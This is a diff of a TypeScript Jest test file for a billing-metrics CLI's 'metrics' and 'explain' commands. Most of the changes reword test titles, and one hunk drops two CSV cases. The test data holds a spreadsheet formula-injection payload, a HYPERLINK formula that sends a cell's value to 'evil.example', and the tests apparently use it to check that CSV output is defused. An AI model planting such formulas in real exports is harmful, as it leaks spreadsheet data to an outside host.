@@ -1,4 +1,4 @@
-/** The commands of a reader, against the real API: metrics in every form, page after page, and the events behind a figure. */
+/** `meterline metrics` and `meterline explain` against the real API: tables, JSON, CSV and pages. */
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
 import { DEFAULT_PRICE_BOOK } from '@meterline/catalog';
 import { oneServer, registerPriceBook } from '@meterline/warehouse';
@@ -13,7 +13,7 @@ const MONTH = ['metrics', '--month', '2025-10'];
 const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"total")';
 
 let api: TestApi;
-/** The environments of an account that used something for a day, one for months, and one with many resources. */
+/** The environments of accounts: with usage of one day, of several months, and with many resources. */
 let acme: Record<string, string>;
 let initech: Record<string, string>;
 let wide: Record<string, string>;
@@ -87,20 +87,20 @@ describe('the table', () => {
     expect((await run(args)).stdout).not.toContain('wide');
   });
 
-  it('the table says that a resource is of several workspaces, to an admin alone', async () => {
+  it('the table shows that a resource is in several workspaces, to an admin only', async () => {
     const args = [...DAY, '--group-by', 'resource_name', '--resource-name', 'box'];
     const [seen, hidden] = [await run(args), await run(args, await as('acme', 'member'))];
     expect(seen.stdout).toMatch(/^several workspaces +sandbox +box +\$60\.50/m);
     expect(hidden.stdout).toMatch(/^sandbox +box +\$60\.50/m);
   });
 
-  it('the table has usage with its unit, and every digit with --exact', async () => {
+  it('the table has usage with its unit, and all digits with --exact', async () => {
     const { stdout } = await run([...DAY, '--group-by', 'billing_dimension,workspace', '--exact']);
     expect(stdout).toMatch(/^main +sandbox +sandbox_compute_runtime_gbs +\$180\.50 +>99\.9% +1,234,568\.891 GB-s /m);
     expect(stdout).toMatch(/^Total +\$180\.500000000001 +100\.0%$/m);
   });
 
-  it('the table has what is on other pages as a row of its own, or reads them with --all', async () => {
+  it('the table has one row for the groups on other pages, or reads all pages with --all', async () => {
     const args = [...DAY, '--group-by', 'resource_name'];
     const [first, all] = await Promise.all([run(args, wide), run([...args, '--all'], wide)]);
     expect(first.stderr).toBe('These are the first 100 groups; --all reads every page.\n');
@@ -111,7 +111,7 @@ describe('the table', () => {
     expect(all.stdout).not.toContain('other groups');
   });
 
-  it('the table of a month has the month before beside it, and adds up', async () => {
+  it('the table of a month has the previous month beside it with --compare', async () => {
     const { stdout, stderr } = await run([...MONTH, '--group-by', 'resource_name', '--compare'], initech);
     expect(stderr).toBe('');
     expect(linesOf(stdout)).toEqual([
@@ -127,12 +127,12 @@ describe('the table', () => {
     ]);
   });
 
-  it('the table says that nothing was used', async () => {
+  it('the table reports that nothing was used', async () => {
     const { code, stdout } = await run(['metrics', '--since', '1h', '--group-by', 'workspace']);
     expect({ code, stdout }).toMatchObject({ code: 0, stdout: expect.stringContaining('Nothing was used') });
   });
 
-  it('--watch asks again until Ctrl-C, and prints nothing for terminals where there is none', async () => {
+  it('--watch requests again until Ctrl-C, and prints no control characters without a terminal', async () => {
     const interruptAt = /metrics\?[\s\S]*metrics\?.*\n/;
     const watched = await runMeterline([...MONTH, '--watch', '1', '--debug'], { env: initech, interruptAt });
     expect(watched.code).toBe(0);
@@ -140,7 +140,7 @@ describe('the table', () => {
     expect(watched.stdout).not.toContain('\u001b');
   });
 
-  it('--debug says what was asked, when, and its request id, and never the key', async () => {
+  it('--debug prints each request with its duration and request id, and never the key', async () => {
     const { stdout, stderr } = await run([...MONTH, '--debug', '--json'], initech);
     const [places, account, metrics] = stderr.trimEnd().split('\n');
     expect(places).toMatch(
@@ -160,7 +160,7 @@ describe('the table', () => {
 });
 
 describe('JSON and CSV', () => {
-  it('--json is what the API answers, and with --all a page a line', async () => {
+  it('--json prints the response of the API, and with --all one page per line', async () => {
     const query = { startTime: '2025-10-01T00:00:00Z', endTime: '2025-10-02T00:00:00Z' };
     const { text } = await api.request(metricsPath('acme', query), bearer(acme['METERLINE_API_KEY'] ?? ''));
     expect((await run([...DAY, '--json'])).stdout).toBe(`${text}\n`);
@@ -169,7 +169,7 @@ describe('JSON and CSV', () => {
     expect(pages.map((page) => JSON.parse(page).data[0].resourceName)).toEqual([FORMULA, 'box']);
   });
 
-  it('--json --compare has the time before in a second line: whole weeks earlier with period', async () => {
+  it('--json --compare prints the previous period in a second line, whole weeks earlier', async () => {
     const { stdout } = await run([...MONTH, '--compare', 'period', '--json'], initech);
     const responses = stdout.trimEnd().split('\n');
     const found = responses.map((line) => JSON.parse(line));
@@ -181,7 +181,7 @@ describe('JSON and CSV', () => {
 
   it.each<[string, 'acme' | 'initech', string[], string[]]>([
     [
-      'names that are no formulas and amounts that are exact',
+      'exact amounts, and names that are no formulas',
       'acme',
       [...DAY, '--group-by', 'resource_name,billing_dimension'],
       [
@@ -191,22 +191,7 @@ describe('JSON and CSV', () => {
       ],
     ],
     [
-      'a line for each bucket with --series',
-      'acme',
-      [...DAY, '--resolution', 'daily', '--series'],
-      ['timestamp,resolution,costUsd', '2025-10-01T00:00:00Z,daily,180.500000000001'],
-    ],
-    [
-      'the time before with --compare',
-      'initech',
-      [...MONTH, '--group-by', 'workspace', '--compare'],
-      [
-        'workspace,startTime,endTime,costUsd,sharePercent,previousCostUsd,changeUsd,changePercent',
-        'main,2025-10-01T00:00:00Z,2025-11-01T00:00:00Z,50,100,40.5,9.5,23.45679',
-      ],
-    ],
-    [
-      'with --compare --all what was there only in the time before',
+      'with --compare --all the groups of the previous period alone',
       'initech',
       [...MONTH, '--group-by', 'resource_name', '--filter', 'resourceName!=box', '--compare', '--all'],
       [
@@ -215,13 +200,13 @@ describe('JSON and CSV', () => {
         'main,sandbox,tape,2025-10-01T00:00:00Z,2025-11-01T00:00:00Z,0,0,4,-4,-100',
       ],
     ],
-  ])('--csv has a byte order mark and %s', async (_what, account, args, lines) => {
+  ])('--csv prints a byte order mark and %s', async (_what, account, args, lines) => {
     const { stdout } = await run([...args, '--csv'], account === 'acme' ? acme : initech);
     expect(stdout).toBe(`\uFEFF${lines.join('\r\n')}\r\n`);
   });
 });
 
-describe('pages whose response changes', () => {
+describe('pages that change while they are read', () => {
   /** Reads an account of its own, two groups at a time; calls `before` before each request with a cursor, the first being 1. */
   async function runBeside(accountId: string, before: (withCursor: number) => void, form: readonly string[]) {
     await api.seed(
@@ -241,7 +226,7 @@ describe('pages whose response changes', () => {
   const DAY_MS = 25 * 3_600_000;
 
   it.each([[[]], [['--json']], [['--csv']]])(
-    'all pages are read again before anything is printed, %j',
+    'pages that change are read again before anything is printed, with %j',
     async (form) => {
       const expire = (withCursor: number) => {
         api.clock.now = withCursor === 2 ? new Date(NOW.getTime() + DAY_MS) : NOW;
@@ -255,7 +240,7 @@ describe('pages whose response changes', () => {
     },
   );
 
-  it('pages that change for ever end with what to do, and nothing is printed', async () => {
+  it('pages that change forever end in an error, and nothing is printed', async () => {
     const expire = () => {
       api.clock.now = new Date(api.clock.now.getTime() + DAY_MS);
     };
@@ -288,7 +273,7 @@ describe('explain', () => {
   });
   afterAll(() => execute(api.dependencies.warehouse, 'SYSTEM START MERGES usage_events'));
 
-  it('explain lists the events with their prices, what they replaced, and their sum', async () => {
+  it('explain lists events with their prices, their earlier payloads and their sum', async () => {
     expect(await run(HOUR, globex)).toEqual({
       code: 0,
       stderr: '',
@@ -303,7 +288,7 @@ describe('explain', () => {
     });
   });
 
-  it('explain says how to go on, prints the response as it is, and that there is nothing', async () => {
+  it('explain prints how to continue, the response as JSON, and that there are no events', async () => {
     const first = await run([...HOUR, '--limit', '1'], globex);
     // A cursor is of one window.
     const [, from, to, cursor = ''] = /--from (\S+) --to (\S+) --cursor (\S+)\n$/.exec(first.stderr) ?? [];
@@ -314,7 +299,7 @@ describe('explain', () => {
     expect(none).toEqual({ code: 0, stderr: '', stdout: 'No event counts in this window.\n' });
   });
 
-  it('explain goes on over a page that has looked through its part and found none', async () => {
+  it('explain continues after a page without events', async () => {
     const interfere = async (path: string) => {
       if (!path.includes('/events?')) return undefined;
       const empty = { data: [], meta: { hasMore: true, nextCursor: 'next' } };
